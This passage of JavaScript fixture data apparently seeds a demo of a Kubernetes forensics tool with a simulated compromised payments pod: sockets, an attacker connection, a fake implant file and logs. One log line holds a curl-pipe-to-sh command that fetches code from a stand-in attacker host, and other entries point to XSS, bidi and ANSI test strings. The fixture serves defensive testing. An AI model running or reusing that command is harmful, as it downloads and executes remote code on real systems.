        tcp(`${cp}:51876`, `${DEMO.ledgerIp}:7000`, 'ESTABLISHED', 10001),
        tcp(`${cp}:8080`, `${DEMO.frontendIps[1]}:39822`, 'ESTABLISHED', 10001),
        tcp(`${cp}:36210`, '10.96.0.10:53', 'TIME_WAIT', 0),
        tcp(`${cp}:44100`, '198.51.100.23:22', 'SYN_SENT', 10001),
        tcp('[::]:8080', undefined, 'LISTEN', 10001),
        tcp(`[${DEMO.compromisedIp6}]:40122`, `[${DEMO.attackerIp6}]:443`, 'ESTABLISHED', 10001),
        tcp(`[::ffff:${cp}]:8080`, `[::ffff:${DEMO.frontendIps[0]}]:50110`, 'ESTABLISHED', 10001),
        { proto: 'udp', local: `${cp}:38000`, remote: '198.51.100.7:53', state: 'ESTABLISHED', uid: 10001 },
        { proto: 'udp', local: '0.0.0.0:68', state: 'CLOSE', uid: 0 },
      ],
      containers: {
        app: {
          logs: [
            `${TS} INFO starting checkout service v2.3.1`,
            `${TS} INFO connected to ledger at ${DEMO.ledgerIp}:7000`,
            `${TS} WARN unexpected child process: /bin/sh -c "curl -s http://${DEMO.attackerIp}:${DEMO.attackerPort}/x | sh"`,
            `${TS} ERROR payment rejected for customer ${HOSTILE.imgXss}`,
            `${TS} INFO request from ${HOSTILE.bidi} ${HOSTILE.ansi}`,
          ].join('\n') + '\n',
          previousLogs: `${TS} INFO starting checkout service v2.3.0\n${TS} FATAL out of memory\n`,
          files: { '/tmp/.x/kworker': '\u007fELF simulated implant\n', '/app/config.yaml': 'ledgerUrl: http://ledger:7000\n' },
        },
        envoy: { logs: `${TS} [info] envoy proxy started\n` },
      },
    },
    [`payments/${DEMO.cleanCheckoutPod}`]: {
      sockets: [
        tcp('0.0.0.0:8080', undefined, 'LISTEN', 10001),
        tcp('127.0.0.1:15000', undefined, 'LISTEN', 101),
        tcp('10.244.2.16:50312', `${DEMO.ledgerIp}:7000`, 'ESTABLISHED', 10001),
      ],
      containers: { app: { logs: `${TS} INFO starting checkout service v2.3.1\n${TS} INFO ready\n` } },
    },
    [`payments/${DEMO.ledgerPod}`]: {
      sockets: [tcp('0.0.0.0:7000', undefined, 'LISTEN', 65532), tcp(`${DEMO.ledgerIp}:7000`, `${cp}:51876`, 'ESTABLISHED', 65532)],
      containers: { ledger: { distroless: true, logs: `${TS} ledger ready on :7000\n` } },
    },
    [`default/${DEMO.hostilePod}`]: { containers: { app: { logs: `${HOSTILE.scriptClose}\n${HOSTILE.ansi}\n${HOSTILE.bidi}\n` } } },
    [`default/${DEMO.ipv6Pod}`]: { sockets: [tcp('[::]:8080', undefined, 'LISTEN'), tcp('[fd00:10:244:1::50]:8080', '[fd00:10:244:2::10]:41000', 'ESTABLISHED')] },
  };
  return { objects, runtime };
}
